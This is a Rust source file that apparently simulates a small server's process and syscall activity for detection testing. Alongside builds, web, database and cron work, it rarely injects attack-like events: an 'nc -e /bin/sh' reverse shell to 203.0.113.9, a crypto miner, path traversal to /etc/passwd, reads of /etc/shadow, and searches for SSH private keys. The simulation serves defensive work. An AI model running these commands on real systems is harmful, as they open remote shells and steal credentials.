//! What the programs of a small shop's server do all day: a build, a web server with its database and cache, timers, logins; and,
//! rarely, something that the official rules speak about.

use std::net::Ipv4Addr;

use super::program::{
    APPEND, CREAT, Habit, Program, RDONLY, RDWR, Step, WRONLY, list_folder, read_file, request, write_file,
};
use super::rng::Rng;
use super::sim::{Actor, Container};

pub const WEB: usize = 0;
pub const DATABASE: usize = 1;
pub const CACHE: usize = 2;
pub const APP: usize = 3;

/// One in so many rounds of a habit that can go wrong does.
const ODD: u64 = 300;

/// The environment of a process.
pub fn environment(uid: u32, cwd: &str) -> Vec<String> {
    let (user, home) = if uid == 0 { ("root", "/root") } else { ("ann", "/home/ann") };
    [
        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        "LANG=C.UTF-8",
        "SHELL=/bin/bash",
        "TERM=xterm-256color",
        "LS_COLORS=rs=0:di=01;34:ln=01;36:mh=00:pi=40;33",
        "XDG_RUNTIME_DIR=/run/user/1000",
    ]
    .iter()
    .map(|&entry| entry.to_owned())
    .chain([format!("USER={user}"), format!("LOGNAME={user}"), format!("HOME={home}"), format!("PWD={cwd}")])
    .collect()
}

/// The next things that an actor does.
pub fn round(habit: Habit, actor: &Actor, rng: &mut Rng, containers: &[Container]) -> Vec<Step> {
    match habit {
        Habit::Init => init(rng),
        Habit::Sshd => sshd(actor, rng),
        Habit::Cron => cron(rng),
        Habit::Journal => journal(rng),
        Habit::Monitor => monitor(rng),
        Habit::Make => make(actor, rng),
        Habit::Shell => shell(actor, rng),
        Habit::Web => web(rng, containers),
        Habit::Database => database(rng),
        Habit::Cache => cache(rng),
        Habit::App => app(rng, containers),
        Habit::Shim => shim(actor, rng),
    }
}

fn init(rng: &mut Rng) -> Vec<Step> {
    let mut steps = vec![Step::EpollWait];
    steps.extend(read_file(format!("/proc/{}/cgroup", rng.between(100, 5000)), 60));
    if rng.one_in(20) {
        steps.extend(write_file("/run/systemd/units/.#invocation", 32));
        steps.push(Step::Rename {
            from: "/run/systemd/units/.#invocation".into(),
            to: "/run/systemd/units/invocation:apt.service".into(),
        });
    }
    steps
}

fn sshd(actor: &Actor, rng: &mut Rng) -> Vec<Step> {
    let mut steps = vec![Step::Poll(0), Step::EpollWait];
    if actor.children < 6 && rng.one_in(8) {
        let client = Ipv4Addr::new(10, 0, 7, rng.between(2, 250) as u8);
        let login = Program::new("bash", &["-l"])
            .doing([Step::Setuid(1000)].into_iter().chain(read_file("/etc/profile", 560)))
            .with(|shell| {
                shell.exe = "-bash".into();
                shell.uid = Some(1000);
                shell.tty = Some(34_816 + rng.below(6) as u32);
                shell.cwd = Some("/home/ann".into());
                shell.habit = Some(Habit::Shell);
            });
        steps.extend([
            Step::Accept { slot: 2, client, port: 22 },
            Step::Recv { slot: 2, len: 42 },
            Step::Send { slot: 2, len: 1080 },
            Step::Spawn(Box::new(login)),
            Step::Close(2),
        ]);
    }
    steps
}

fn shell(actor: &Actor, rng: &mut Rng) -> Vec<Step> {
    if actor.rounds > 12 && rng.one_in(8) {
        return vec![
            Step::Open { slot: 1, path: "/home/ann/.bash_history".into(), flags: WRONLY | APPEND },
            Step::Exit(0),
        ];
    }
    let mut steps = vec![Step::Pipe { read: 5, write: 6 }];
    let project = format!("/home/ann/src/p{}", rng.below(40));
    let command = match rng.below(7) {
        0 => Program::new("ls", &["-la", &project]).doing(list_folder(&project)),
        1 => {
            let file = format!("{project}/README.md");
            Program::new("cat", &[&file]).doing(read_file(&file, 1800))
        }
        2 => Program::new("git", &["-C", &project, "status", "--short"])
            .doing((0..12).flat_map(|i| read_file(format!("{project}/.git/objects/{i:02x}/{}", rng.hex(38)), 400))),
        3 => Program::new("grep", &["-rn", "TODO", &project])
            .doing((0..20).flat_map(|i| read_file(format!("{project}/src/module{i}.c"), 4096))),
        4 => Program::new("vim", &[&format!("{project}/src/main.c")]).doing(
            read_file("/home/ann/.vimrc", 300)
                .into_iter()
                .chain(write_file(format!("{project}/src/.main.c.swp"), 4096))
                .chain(write_file(format!("{project}/src/main.c~"), 2048))
                .chain([
                    Step::Rename { from: format!("{project}/src/main.c~"), to: format!("{project}/src/main.c") },
                    Step::Unlink(format!("{project}/src/.main.c.swp")),
                ]),
        ),
        5 => Program::new("curl", &["-sO", "https://mirror.example.org/file.tar.gz"]).doing(
            read_file("/etc/ssl/certs/ca-certificates.crt", 16_384)
                .into_iter()
                .chain(read_file("/etc/resolv.conf", 80))
                .chain(lookup())
                .chain(request(3, Ipv4Addr::new(203, 0, 113, 80), 443, 517, 1400))
                .chain(write_file("/home/ann/file.tar.gz", 16_384)),
        ),
        _ => Program::new("make", &["-j4", "-C", &project]).doing(read_file(format!("{project}/Makefile"), 2000)).with(
            |make| {
                make.habit = Some(Habit::Make);
                make.cwd = Some(project.clone());
            },
        ),
    };
    steps.push(Step::Spawn(Box::new(command)));
    if rng.one_in(ODD / 8) {
        steps.push(Step::Spawn(Box::new(odd_on_the_host(rng))));
    }
    steps.extend([Step::Read { slot: 5, len: 1 }, Step::Close(5), Step::Close(6)]);
    steps
}

/// A name looked up.
fn lookup() -> Vec<Step> {
    let mut steps = request(4, Ipv4Addr::new(10, 0, 0, 2), 53, 44, 60);
    if let Some(Step::Socket { kind, .. }) = steps.first_mut() {
        *kind = 2;
    }
    steps
}

fn make(actor: &Actor, rng: &mut Rng) -> Vec<Step> {
    if actor.rounds > 30 {
        return vec![Step::Exit(0)];
    }
    let n = rng.below(400);
    let source = format!("src/module{n}.c");
    let object = format!("build/module{n}.o");
    let mut steps = vec![Step::Stat(source.clone()), Step::Stat(object.clone())];
    if actor.children >= 4 {
        return steps;
    }
    if actor.rounds == 1 {
        steps.push(Step::Mkdir("build".into()));
    }
    let preprocess = (0..24).flat_map(|i| {
        let header = format!("/usr/include/x86_64-linux-gnu/bits/header{}.h", (n + i) % 120);
        [Step::OpenFails(format!("include/header{i}.h"))].into_iter().chain(read_file(header, 4096))
    });
    let assembly = format!("/tmp/cc{}.s", rng.hex(6));
    let compiler =
        Program::at("/usr/libexec/gcc/x86_64-linux-gnu/14/cc1", &["-quiet", "-O2", &source, "-o", &assembly]).doing(
            read_file(source.clone(), 4096).into_iter().chain(preprocess).chain(write_file(assembly.clone(), 4096)),
        );
    let assembler = Program::new("as", &["--64", "-o", &object, &assembly]).doing(
        read_file(assembly.clone(), 4096)
            .into_iter()
            .chain(write_file(format!("{object}.tmp"), 4096))
            .chain([Step::Rename { from: format!("{object}.tmp"), to: object.clone() }]),
    );
    let gcc = Program::new("gcc", &["-O2", "-Wall", "-Iinclude", "-c", &source, "-o", &object]).doing([
        Step::Stat("/usr/libexec/gcc/x86_64-linux-gnu/14/cc1".into()),
        Step::Spawn(Box::new(compiler)),
        Step::Futex,
        Step::Spawn(Box::new(assembler)),
        Step::Futex,
        Step::Unlink(assembly),
    ]);
    let command = format!("gcc -O2 -Wall -Iinclude -c {source} -o {object}");
    let sh = Program::at("/usr/bin/dash", &["-c", &command])
        .with(|sh| {
            sh.comm = "sh".into();
            sh.exe = "/bin/sh".into();
        })
        .doing([Step::Spawn(Box::new(gcc)), Step::Futex]);
    steps.push(Step::Spawn(Box::new(sh)));
    steps
}

fn cron(rng: &mut Rng) -> Vec<Step> {
    let mut steps = vec![Step::Stat("/etc/crontab".into()), Step::Stat("/var/spool/cron/crontabs".into())];
    if rng.one_in(12) {
        let log = format!("/var/log/app/access-{}.log", rng.below(9));
        let rotate = Program::new("logrotate", &["/etc/logrotate.conf"]).doing(
            read_file("/etc/logrotate.conf", 600)
                .into_iter()
                .chain(list_folder("/etc/logrotate.d"))
                .chain([
                    Step::Rename { from: log.clone(), to: format!("{log}.1") },
                    Step::Unlink(format!("{log}.7.gz")),
                ])
                .chain(write_file(log, 0)),
        );
        let sh = Program::at("/usr/bin/dash", &["-c", "test -x /usr/bin/logrotate && logrotate /etc/logrotate.conf"])
            .with(|sh| {
                sh.comm = "sh".into();
                sh.exe = "/bin/sh".into();
            })
            .doing([Step::Spawn(Box::new(rotate)), Step::Futex]);
        steps.push(Step::Spawn(Box::new(sh)));
    }
    steps
}

fn journal(rng: &mut Rng) -> Vec<Step> {
    let mut steps = vec![Step::EpollWait, Step::Socket { slot: 2, domain: 1, kind: 2 }];
    steps.push(Step::ConnectUnix { slot: 2, path: "/run/systemd/journal/dev-log".into() });
    steps.extend([Step::Recv { slot: 2, len: 180 }, Step::Close(2)]);
    steps.extend(read_file(format!("/proc/{}/comm", rng.between(100, 5000)), 12));
    steps.push(Step::Open { slot: 3, path: "/var/log/journal/system.journal".into(), flags: RDWR });
    for _ in 0..rng.between(1, 5) {
        steps.push(Step::Pwrite { slot: 3, len: 256 });
    }
    steps.push(Step::Close(3));
    steps
}

fn monitor(rng: &mut Rng) -> Vec<Step> {
    let mut steps = list_folder("/proc");
    for _ in 0..6 {
        let pid = rng.between(100, 30_000);
        steps.extend(read_file(format!("/proc/{pid}/stat"), 300));
        steps.extend(read_file(format!("/proc/{pid}/status"), 1300));
    }
    steps.extend(request(4, Ipv4Addr::new(10, 0, 0, 9), 9091, 700, 120));
    steps
}

fn web(rng: &mut Rng, containers: &[Container]) -> Vec<Step> {
    let client = Ipv4Addr::new(198, 51, 100, rng.between(1, 255) as u8);
    let page = format!("/usr/share/nginx/html/page{}.html", rng.below(300));
    let mut steps = vec![
        Step::EpollWait,
        Step::Accept { slot: 2, client, port: 80 },
        Step::Recv { slot: 2, len: 420 },
        Step::Stat(page.clone()),
    ];
    if rng.one_in(3) {
        steps.extend(read_file(page, 4096));
    } else if let Some(app) = containers.get(APP) {
        steps.extend(request(3, app.ip, 8080, 480, 2200));
    }
    steps.extend([
        Step::Send { slot: 2, len: 2600 },
        Step::Open { slot: 4, path: "/var/log/nginx/access.log".into(), flags: WRONLY | CREAT | APPEND },
        Step::Write { slot: 4, len: 110 },
        Step::Close(4),
        Step::Close(2),
    ]);
    if rng.one_in(ODD) {
        let path = "/usr/share/nginx/html/../../../../etc/passwd";
        steps.extend(read_file(path, 900));
    }
    if rng.one_in(ODD) {
        let sh = Program::at("/bin/sh", &["-c", "id"]).doing(read_file("/proc/self/status", 900));
        steps.push(Step::Spawn(Box::new(sh)));
    }
    steps
}

fn database(rng: &mut Rng) -> Vec<Step> {
    let mut steps = vec![Step::EpollWait];
    for _ in 0..rng.between(1, 6) {
        let file = format!("/var/lib/postgresql/data/base/16384/{}", rng.between(16_400, 16_480));
        steps.push(Step::Open { slot: 1, path: file, flags: RDWR });
        steps.push(Step::Lseek(1));
        steps.push(Step::Pread { slot: 1, len: 8192 });
        if rng.one_in(3) {
            steps.push(Step::Pwrite { slot: 1, len: 8192 });
        }
        steps.push(Step::Close(1));
    }
    steps
}

fn cache(rng: &mut Rng) -> Vec<Step> {
    let client = Ipv4Addr::new(172, 17, 0, 5);
    let mut steps = vec![Step::EpollWait, Step::Accept { slot: 2, client, port: 6379 }];
    for _ in 0..rng.between(2, 8) {
        steps.extend([Step::EpollWait, Step::Read { slot: 2, len: 60 }, Step::Write { slot: 2, len: 200 }]);
    }
    steps.push(Step::Close(2));
    steps
}

fn app(rng: &mut Rng, containers: &[Container]) -> Vec<Step> {
    let mut steps = vec![Step::EpollWait];
    let client = containers.get(WEB).map_or(Ipv4Addr::LOCALHOST, |web| web.ip);
    steps.extend([Step::Accept { slot: 2, client, port: 8080 }, Step::Recv { slot: 2, len: 480 }]);
    for (index, port) in [(DATABASE, 5432), (CACHE, 6379)] {
        if let Some(container) = containers.get(index) {
            steps.extend(request(3, container.ip, port, 90, 400));
        }
    }
    if rng.one_in(10) {
        steps.extend(write_file(format!("/srv/app/cache/{}.json", rng.hex(8)), 900));
    }
    steps.extend([Step::Futex, Step::Send { slot: 2, len: 2200 }, Step::Close(2)]);
    steps
}

/// A container's shim: health checks, and sometimes somebody who looks in.
fn shim(actor: &Actor, rng: &mut Rng) -> Vec<Step> {
    let mut steps = vec![Step::EpollWait, Step::Futex];
    let into = |program: Program, container: usize| program.with(|p| p.container = Some(container));
    let container = [WEB, DATABASE, CACHE, APP][(actor.tid % 4) as usize];
    if actor.children < 3 && rng.one_in(10) {
        let probe = Program::at("/usr/bin/wget", &["-qO-", "http://127.0.0.1:8080/health"]).doing(request(
            3,
            Ipv4Addr::LOCALHOST,
            8080,
            80,
            20,
        ));
        let sh = Program::at("/bin/sh", &["-c", "wget -qO- http://127.0.0.1:8080/health"])
            .doing([Step::Spawn(Box::new(probe)), Step::Futex]);
        steps.push(Step::Spawn(Box::new(into(sh, container))));
    }
    if rng.one_in(ODD) {
        let bash = Program::at("/bin/bash", &["-i"])
            .doing(list_folder("/").into_iter().chain([Step::Spawn(Box::new(odd_in_a_container(rng)))]))
            .with(|bash| bash.tty = Some(34_816));
        steps.push(Step::Spawn(Box::new(into(bash, container))));
    }
    steps
}

/// What a job's container runs.
pub fn job(container: usize, rng: &mut Rng) -> Program {
    let day = rng.below(28) + 1;
    let report = format!("/srv/reports/2026-02-{day:02}.csv");
    let query = (0..10).flat_map(|_| request(3, Ipv4Addr::new(172, 17, 0, 3), 5432, 120, 1400));
    Program::at("/usr/local/bin/python3", &["/srv/report.py", "--day", &day.to_string()])
        .doing(read_file("/srv/report.py", 4000).into_iter().chain(query).chain(write_file(report, 9000)))
        .with(|job| {
            job.container = Some(container);
            job.uid = Some(1000);
        })
}

fn odd_on_the_host(rng: &mut Rng) -> Program {
    match rng.below(5) {
        0 => Program::new("cat", &["/etc/shadow"]).doing(read_file("/etc/shadow", 900)).with(|p| p.uid = Some(0)),
        1 => Program::new("grep", &["-r", "BEGIN OPENSSH PRIVATE KEY", "/home"]).doing(list_folder("/home")),
        2 => Program::new("find", &["/", "-name", "id_rsa"]).doing(list_folder("/")),
        3 => Program::new("ln", &["-s", "/etc/shadow", "/tmp/x"])
            .doing([Step::Symlink { target: "/etc/shadow".into(), path: "/tmp/x".into() }]),
        _ => Program::at("/dev/shm/update", &["--quiet"]).doing([Step::Memfd(3)]).with(|p| p.exec_flags = 1),
    }
}

fn odd_in_a_container(rng: &mut Rng) -> Program {
    match rng.below(4) {
        0 => Program::at("/tmp/miner", &["-o", "pool.example.org:3333"])
            .doing(request(3, Ipv4Addr::new(203, 0, 113, 33), 3333, 200, 300))
            .with(|p| p.exec_flags = 1 | 2),
        1 => Program::new("nc", &["-e", "/bin/sh", "203.0.113.9", "4444"]).doing([
            Step::Socket { slot: 3, domain: 2, kind: 1 },
            Step::Connect { slot: 3, ip: Ipv4Addr::new(203, 0, 113, 9), port: 4444 },
            Step::Dup2 { slot: 3, to: 0 },
            Step::Dup2 { slot: 3, to: 1 },
        ]),
        2 => Program::new("cat", &["/etc/shadow"]).doing(read_file("/etc/shadow", 900)),
        _ => Program::at("memfd:x", &[])
            .doing([Step::Open { slot: 1, path: "/etc/hosts".into(), flags: RDONLY }])
            .with(|p| {
                p.exec_flags = 4;
                p.comm = "x".into();
            }),
    }
}
